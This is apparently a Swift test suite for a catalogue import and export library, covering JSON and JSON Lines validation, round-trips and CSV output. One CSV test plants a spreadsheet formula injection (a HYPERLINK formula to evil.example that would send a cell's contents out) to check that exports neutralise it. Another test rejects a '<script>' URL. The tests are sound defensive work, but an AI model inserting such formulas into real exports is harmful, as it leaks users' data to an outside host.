import Foundation
import Testing
@testable import LiaisonCore

@Suite struct CatalogueFileTests {
    func document(_ network: String) -> Data {
        Data(#"{"format": "liaison-catalogue/1", "networks": [\#(network)]}"#.utf8)
    }

    func errors(_ network: String) throws -> [InputError] {
        do {
            _ = try CatalogueFile.decode(document(network), source: "test.json").networks()
            Issue.record("expected the import to be refused")
            return []
        } catch let failure as ImportFailure {
            return failure.errors
        }
    }

    @Test func exportThenImportGivesBackTheSameCatalogue() throws {
        let original = try CatalogueFile.catalogue2017().networks()

        let written = try CatalogueFile.encoder().encode(CatalogueFile(networks: original))
        let readBack = try CatalogueFile.decode(written, source: "export.json").networks()

        #expect(readBack == original)
    }

    @Test func jsonLinesExportThenImportGivesBackTheSameCatalogue() throws {
        let original = try CatalogueFile.catalogue2017().networks()

        let lines = try JSONLines.encode(original)
        let readBack = try JSONLines.networks(lines, source: "export.jsonl")

        #expect(readBack == original)
        #expect(String(decoding: lines, as: UTF8.self).split(separator: "\n").count == original.count)
    }

    @Test func badValuesNameTheFieldTheValueAndTheRule() throws {
        let found = try errors("""
            {"slug": "Bad Slug", "name": "", "section": "asia", "scope": "global", "website": "ftp://x",
             "groups": [{"role": "boss", "text": "Spain", "parties": [{"printed": "Spain", "party": "XX-NOPE"}]}],
             "relations": [{"type": "hosts", "target": "nowhere"}], "status": {"value": "active", "since": "2017-13"}}
            """)
        let descriptions = found.map(\.description)
        #expect(descriptions.contains { $0.contains("networks[0].slug") && $0.contains("Bad Slug") })
        #expect(descriptions.contains { $0.contains("networks[0].name") && $0.contains("required") })
        #expect(descriptions.contains { $0.contains("networks[0].section") && $0.contains("european, non-european") })
        #expect(descriptions.contains { $0.contains("networks[0].website") && $0.contains("http") })
        #expect(descriptions.contains { $0.contains("networks[0].groups[0].role") && $0.contains("boss") && $0.contains("observer") })
        #expect(descriptions.contains { $0.contains("networks[0].groups[0].parties[0].party") && $0.contains("XX-NOPE") })
        #expect(descriptions.contains { $0.contains("networks[0].relations[0].target") && $0.contains("nowhere") })
        #expect(descriptions.contains { $0.contains("networks[0].status.since") && $0.contains("2017-13") })
    }

    @Test func fieldSourcesAreReadWrittenAndChecked() throws {
        let read = try CatalogueFile.decode(document("""
            {"slug": "x-net", "name": "X", "section": "european", "scope": "europe",
             "sources": [{"field": "website", "source": "https://x.example/about"}, {"field": "other_names", "source": "Annual report 2025"}]}
            """), source: "test.json").networks()
        #expect(read.first?.sources == [.website: "https://x.example/about", .otherNames: "Annual report 2025"])
        // Written back in the field order of the format, and read again the same.
        let written = try CatalogueFile.encoder().encode(CatalogueFile(networks: read))
        let text = String(decoding: written, as: UTF8.self)
        #expect(try #require(text.range(of: "other_names\",\n")).lowerBound < (try #require(text.range(of: "\"website\",\n"))).lowerBound)
        #expect(try CatalogueFile.decode(written, source: "export.json").networks() == read)
        #expect(try JSONLines.networks(try JSONLines.encode(read), source: "x.jsonl") == read)

        let found = try errors("""
            {"slug": "x-net", "name": "X", "section": "european", "scope": "europe",
             "sources": [{"field": "colour", "source": "x"}, {"field": "website", "source": "a\\nb"}, {"field": "name", "source": " "},
                         {"field": "website", "source": "again"}]}
            """).map(\.description)
        #expect(found.contains { $0.contains("networks[0].sources[0].field") && $0.contains("colour") && $0.contains("website") })
        #expect(found.contains { $0.contains("networks[0].sources[1].source") && $0.contains("must be one line") && $0.contains("U+000A") })
        #expect(found.contains { $0.contains("networks[0].sources[2].source") && $0.contains("required") })
        #expect(found.contains { $0.contains("networks[0].sources[3].field") && $0.contains("website") })
    }

    @Test func anAddressWithSpacesOrAngleBracketsIsNotAnAddress() {
        for text in ["https://x.example/a b", "https://x.example/<script>", "https://x.example/\"q\"", "https://x.example/\u{7}"] {
            #expect(throws: InputError.self, "\(text)") { try Rules.checkURL(text, field: "website") }
        }
        #expect(throws: Never.self) { try Rules.checkURL("https://x.example/a%20b?q=1&r=2#top", field: "website") }
    }

    @Test func theMembershipTableHasARowForEveryMembershipWithItsDatesAndSource() throws {
        var networks = try CatalogueFile.catalogue2017().networks()
        let seepag = try #require(networks.firstIndex { $0.slug == "seepag" })
        networks[seepag].groups[0].entries[0].since = try PartialDate("2003", field: "since")
        networks[seepag].groups[0].entries[0].note = "https://seepag.example/members, \"2026\""
        networks[seepag].groups[0].entries[1].sourceFootnote = 17
        networks[seepag].groups[0].entries[2].note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        let catalogue = Catalogue(networks: networks)
        let lines = MembershipTable.csv(catalogue).components(separatedBy: "\r\n").dropLast()
        #expect(lines.first == "network_slug,network_name,network_acronym,section,party_id,party_kind,party_code,party_name_en,party_name_fr,role,as_printed,heading,since,until,source")
        #expect(lines.count == catalogue.membershipCount + 1)
        #expect(lines.contains { $0.hasPrefix("seepag,") && $0.hasSuffix(",2003,,\"https://seepag.example/members, \"\"2026\"\"\"") }, "quoted as RFC 4180 says")
        #expect(lines.contains { $0.hasPrefix("seepag,") && $0.contains(",Bosnia Herzegovina,") && $0.hasSuffix(",,,\"CDPC (2017) 1, footnote 17\"") },
                "a footnote of the report when the entry has no note")
        #expect(lines.contains { $0.hasSuffix(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"") }, "a formula is text")
        #expect(!lines.contains { $0.contains(",\"=HYPERLINK") || $0.contains(",=HYPERLINK") })
    }

    @Test func duplicateSlugsAreRefused() throws {
        let network = #"{"slug": "same", "name": "Same", "section": "european", "scope": "europe"}"#
        let found = try errors(network + "," + network)
        #expect(found.map(\.description).contains { $0.contains("networks[1].slug") && $0.contains("same") })
    }

    @Test func syntaxAndShapeErrorsNameThePath() {
        #expect(throws: InputError.self) { try CatalogueFile.decode(Data("{".utf8), source: "x.json") }
        do {
            _ = try CatalogueFile.decode(Data(#"{"format": "liaison-catalogue/1", "networks": [{"slug": 3}]}"#.utf8), source: "x.json")
            Issue.record("expected an error")
        } catch let error as InputError {
            #expect(error.description.contains("networks[0].slug"))
        } catch {
            Issue.record("unexpected \(error)")
        }
        #expect(throws: InputError.self) {
            try CatalogueFile.decode(Data(#"{"format": "other/9", "networks": []}"#.utf8), source: "x.json")
        }
    }
}

@Suite struct JSONLinesTests {
    let line = #"{"id":1,"slug":"balkan-consortium","name":"Balkan Consortium","acronym":"BC","region":"Europe","purpose":"Fights fraud.","founded":2006,"status":"dissolved","memberships":[{"country_code":"AR","role":"member"},{"country_code":"BE","role":"observer"}]}"#

    @Test func readsTheBulkFormat() throws {
        let networks = try JSONLines.networks(Data((line + "\n").utf8), source: "bulk.jsonl")

        let network = try #require(networks.first)
        #expect(network.slug == "balkan-consortium")
        #expect(network.scope == .europe)
        #expect(network.section == .european)
        #expect(network.founded?.year == 2006)
        #expect(network.status.value == .defunct)
        #expect(network.status.note == "imported status: dissolved")
        #expect(network.memberships.map { "\($0.partyID) \($0.role.rawValue)" } == ["AR member", "BE observer"])
    }

    @Test func aBadLineIsReportedWithItsNumberFieldAndReason() throws {
        let bad = line.replacingOccurrences(of: #""country_code":"BE""#, with: #""country_code":"QQ""#)
        let text = [line.replacingOccurrences(of: "balkan-consortium", with: "first"), "", bad, "{not json"].joined(separator: "\n")
        do {
            _ = try JSONLines.networks(Data(text.utf8), source: "bulk.jsonl")
            Issue.record("expected the import to be refused")
        } catch let failure as ImportFailure {
            let descriptions = failure.errors.map(\.description)
            #expect(descriptions.contains { $0.hasPrefix("bulk.jsonl:4") })
            // Syntax errors are reported before the meaning of lines is checked.
            #expect(failure.errors.count == 1)
        }
        do {
            _ = try JSONLines.networks(Data([line.replacingOccurrences(of: "balkan-consortium", with: "first"), bad].joined(separator: "\n").utf8),
                                       source: "bulk.jsonl")
            Issue.record("expected the import to be refused")
        } catch let failure as ImportFailure {
            #expect(failure.errors.map(\.description) == [
                "bulk.jsonl:2: memberships[1].country_code: “QQ” is not allowed: must be an ISO 3166 code of a known state, territory or subdivision",
            ])
        }
    }

    @Test func aRepeatedSlugIsRefused() throws {
        #expect(throws: ImportFailure.self) { try JSONLines.networks(Data((line + "\n" + line).utf8), source: "bulk.jsonl") }
    }

    /// A host named by its id in another case is stored by its own id, as members are ("be" is Belgium's "BE").
    @Test func aHostIsStoredByItsPartysOwnID() throws {
        let network = Network(slug: "hosted", name: "Hosted", section: .european, scope: .europe, hostedBy: "BE")
        let text = String(decoding: try JSONLines.line(network), as: UTF8.self).replacingOccurrences(of: #""hosted_by":"BE""#, with: #""hosted_by":"be""#)
        #expect(text.contains(#""hosted_by":"be""#))
        #expect(try JSONLines.networks(Data(text.utf8), source: "hosted.jsonl").first?.hostedBy == "BE")
    }

    /// The byte scan splits lines as Data's own split did (empty lines kept), also in a slice of a larger buffer.
    @Test(arguments: ["", "\n", "a", "a\n", "a\nb", "\n\na\n\nb\n", "é\r\nx\n\n"])
    func linesAreSplitAsDataSplitsThem(text: String) {
        let whole = Data(("zz\n" + text + "\nzz").utf8)
        let slice = whole[3..<(whole.count - 3)]
        for data in [Data(text.utf8), slice] {
            #expect(JSONLines.lines(data).map { Array($0) } ==
                    data.split(separator: UInt8(ascii: "\n"), omittingEmptySubsequences: false).map { Array($0) })
        }
    }

    /// Lines are read and made networks in slices at once: a file with both kinds of line gives the catalogue's own
    /// records first, then the bulk lines, each in line order, and its problems in line order.
    @Test func aLargeFileOfBothKindsKeepsTheOrderOfEachKindAndOfItsProblems() throws {
        let encoder = JSONLines.lineEncoder()
        var lines: [String] = [], records: [String] = [], bulk: [String] = []
        for number in 0..<4_100 {
            if number % 3 == 0 {
                let network = Network(slug: "record-\(number)", name: "Record \(number)", section: .european, scope: .europe)
                lines.append(String(decoding: try JSONLines.line(network, encoder: encoder), as: UTF8.self))
                records.append(network.slug)
            } else {
                lines.append(line.replacingOccurrences(of: "balkan-consortium", with: "bulk-\(number)"))
                bulk.append("bulk-\(number)")
            }
        }
        let networks = try JSONLines.networks(Data(lines.joined(separator: "\n").utf8), source: "both.jsonl")
        #expect(networks.map(\.slug) == records + bulk)

        for number in [4_001, 2_000, 10] {
            lines[number] = lines[number].replacingOccurrences(of: #""country_code":"BE""#, with: #""country_code":"QQ""#)
        }
        lines[3_000] = lines[3_000].replacingOccurrences(of: #""name":"Record 3000""#, with: #""name":"""#)
        #expect {
            try JSONLines.networks(Data(lines.joined(separator: "\n").utf8), source: "both.jsonl")
        } throws: { error in
            let places = (error as? ImportFailure)?.errors.map { $0.description.prefix { $0 != " " } }
            return places == ["both.jsonl:3001:", "both.jsonl:11:", "both.jsonl:2001:", "both.jsonl:4002:"]
        }
    }
}
